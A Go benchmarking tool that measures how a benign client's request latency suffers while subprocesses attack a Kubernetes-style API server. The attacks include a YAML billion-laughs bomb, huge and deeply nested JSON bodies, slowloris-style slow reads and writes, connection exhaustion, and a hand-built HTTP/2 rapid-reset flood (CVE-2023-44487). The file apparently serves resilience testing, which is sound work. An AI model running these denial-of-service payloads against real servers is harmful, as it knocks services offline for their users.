// strain measures what a client that means no harm sees of others that do.
//
// Usage: strain -server https://127.0.0.1:17443 -token bench-token [-attacks yaml,objects,…] [-attackers 2] [-requests 1200]
//
// One client, in this process, reads a namespace three times and creates a ConfigMap once, over and over, one request at a time. Attackers are
// processes of their own at a low priority: what they themselves compute is no fault of the server. A line of figures is printed per attack;
// "none" is the client by itself, "hogs" stands for processes that use the processors and never say a word to the server.
package main

import (
	"bytes"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"sort"
	"strings"
	"sync"
	"time"
)

// patience is how long a request is waited for; an attack is looked at for three times that.
const patience = 10 * time.Second

const configMaps = "/api/v1/namespaces/default/configmaps"

var (
	server    = flag.String("server", "", "https://HOST:PORT")
	token     = flag.String("token", "", "whose bearer may do everything")
	attacks   = flag.String("attacks", "none,hogs,yaml,objects,fields,deep,large,slowread,slowwrite,idle,resets,none", "in this order")
	attackers = flag.Int("attackers", 2, "processes at once")
	requests  = flag.Int("requests", 1200, "of the client, during each attack")
	attack    = flag.String("attack", "", "be an attacker until killed")
)

func main() {
	flag.Parse()
	if *attack != "" {
		assault(*attack)
		return
	}
	for i, name := range strings.Split(*attacks, ",") {
		children := start(name)
		time.Sleep(1500 * time.Millisecond)
		times, failed := visit(i)
		for _, child := range children {
			_ = child.Process.Kill()
			_ = child.Wait()
		}
		at := func(share float64) time.Duration { return times[int(float64(len(times)-1)*share)] }
		fmt.Printf("%s n=%d failed=%d p50=%s p99=%s max=%s\n", name, len(times), failed, at(0.5), at(0.99), at(1))
	}
}

func start(name string) []*exec.Cmd {
	many := *attackers
	switch name {
	case "none":
		many = 0
	case "slowread", "slowwrite", "idle":
		many = 1
	}
	var children []*exec.Cmd
	for range many {
		child := exec.Command("nice", "-n", "10", os.Args[0], "-server", *server, "-token", *token, "-attack", name)
		child.Stderr = os.Stderr
		if err := child.Start(); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		children = append(children, child)
	}
	return children
}

func client() *http.Client {
	return &http.Client{Timeout: patience, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
}

func send(c *http.Client, method, path, kind string, body []byte) (int, error) {
	request, err := http.NewRequest(method, *server+path, bytes.NewReader(body))
	if err != nil {
		return 0, err
	}
	request.Header.Set("Authorization", "Bearer "+*token)
	request.Header.Set("Content-Type", kind)
	response, err := c.Do(request)
	if err != nil {
		return 0, err
	}
	defer response.Body.Close()
	_, err = io.Copy(io.Discard, response.Body)
	return response.StatusCode, err
}

// visit gives the sorted times of the client's requests, and how many did not succeed.
func visit(round int) ([]time.Duration, int) {
	c, failed := client(), 0
	var times []time.Duration
	run := time.Now().UnixNano()
	for i, first := 0, time.Now(); i < *requests && time.Since(first) < 3*patience; i++ {
		begun := time.Now()
		var code int
		var err error
		if i%4 == 3 {
			body := fmt.Sprintf(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"v-%d-%d-%d"},"data":{"a":"b"}}`, run, round, i)
			code, err = send(c, "POST", configMaps, "application/json", []byte(body))
		} else {
			code, err = send(c, "GET", "/api/v1/namespaces/default", "", nil)
		}
		times = append(times, time.Since(begun))
		if err != nil || code/100 != 2 {
			failed++
		}
		time.Sleep(2 * time.Millisecond)
	}
	sort.Slice(times, func(i, j int) bool { return times[i] < times[j] })
	return times, failed
}

func assault(name string) {
	many := func(head, each, tail string, n int) []byte {
		return []byte(head + strings.Repeat(each, n) + tail)
	}
	switch name {
	case "hogs":
		for {
		}
	case "yaml":
		post(configMaps, "application/yaml", laughs())
	case "objects":
		head := `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"d"},"spec":{"containers":[`
		post("/api/v1/namespaces/default/pods", "application/json", many(head, "{},", "{}]}}", 1_000_000))
	case "fields":
		var b strings.Builder
		b.WriteString(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"d","managedFields":[{"fieldsV1":{"f:a":{}`)
		for i := range 200_000 {
			fmt.Fprintf(&b, `,"f:%d":{}`, i)
		}
		b.WriteString(`}}]}}`)
		post(configMaps, "application/json", []byte(b.String()))
	case "deep":
		body := many(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"d"},"data":`, "[", "", 100_000)
		post(configMaps, "application/json", append(body, many("", "]", "}", 100_000)...))
	case "large":
		post(configMaps, "application/json", bytes.Repeat([]byte(" "), 100<<20))
	case "slowread":
		trickle(60, "GET /api/v1/pods?x=1", 0, func(c net.Conn) { _, _ = c.Read(make([]byte, 1000)) })
	case "slowwrite":
		trickle(300, "POST "+configMaps, 16_000, func(c net.Conn) { _, _ = c.Write([]byte(" ")) })
	case "idle":
		for range 900 {
			dial()
		}
		select {}
	case "resets":
		resets()
	default:
		fmt.Fprintln(os.Stderr, "no such attack:", name)
		os.Exit(2)
	}
}

func post(path, kind string, body []byte) {
	c := client()
	for {
		_, _ = send(c, "POST", path, kind, body)
	}
}

// laughs is "a billion laughs": nine lists, each with nine times the one before.
func laughs() []byte {
	text, before := "a: &a [x,x,x,x,x,x,x,x,x]\n", "a"
	for _, name := range strings.Split("bcdefghi", "") {
		text += fmt.Sprintf("%s: &%s [%s]\n", name, name, strings.TrimSuffix(strings.Repeat("*"+before+",", 9), ","))
		before = name
	}
	return []byte(text)
}

func dial() net.Conn {
	address, _ := url.Parse(*server)
	for {
		c, err := tls.Dial("tcp", address.Host, &tls.Config{InsecureSkipVerify: true})
		if err == nil {
			return c
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// trickle keeps requests under way of which little is sent, or read, at a time.
func trickle(many int, line string, length int, step func(net.Conn)) {
	var all sync.WaitGroup
	for range many {
		all.Go(func() {
			c := dial()
			head := line + " HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + *token + "\r\n"
			if length > 0 {
				head += fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n", length)
			}
			_, _ = c.Write([]byte(head + "\r\n"))
			for {
				step(c)
				time.Sleep(200 * time.Millisecond)
			}
		})
	}
	all.Wait()
}

// resets opens HTTP/2 streams and takes each back at once (CVE-2023-44487).
func resets() {
	block := []byte{0x82, 0x87, 0x41, 1, 'a'} // :method GET, :scheme https, :authority a (RFC 7541)
	literal := func(index []byte, value string) {
		block = append(append(append(block, index...), byte(len(value))), value...)
	}
	literal([]byte{0x04}, "/api/v1/namespaces/default")
	literal([]byte{0x0f, 0x08}, "Bearer "+*token)
	frame := func(kind, flags byte, stream uint32, payload []byte) []byte {
		n := len(payload)
		head := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
		return append(head, payload...)
	}
	address, _ := url.Parse(*server)
	for {
		c, err := tls.Dial("tcp", address.Host, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if err != nil {
			continue
		}
		go func() { _, _ = io.Copy(io.Discard, c) }()
		_, err = c.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), append(frame(4, 0, 0, nil), frame(4, 1, 0, nil)...)...))
		for stream := uint32(1); err == nil && stream < 1<<30; stream += 2 {
			_, err = c.Write(append(frame(1, 5, stream, block), frame(3, 0, stream, []byte{0, 0, 0, 8})...))
		}
		_ = c.Close()
	}
}
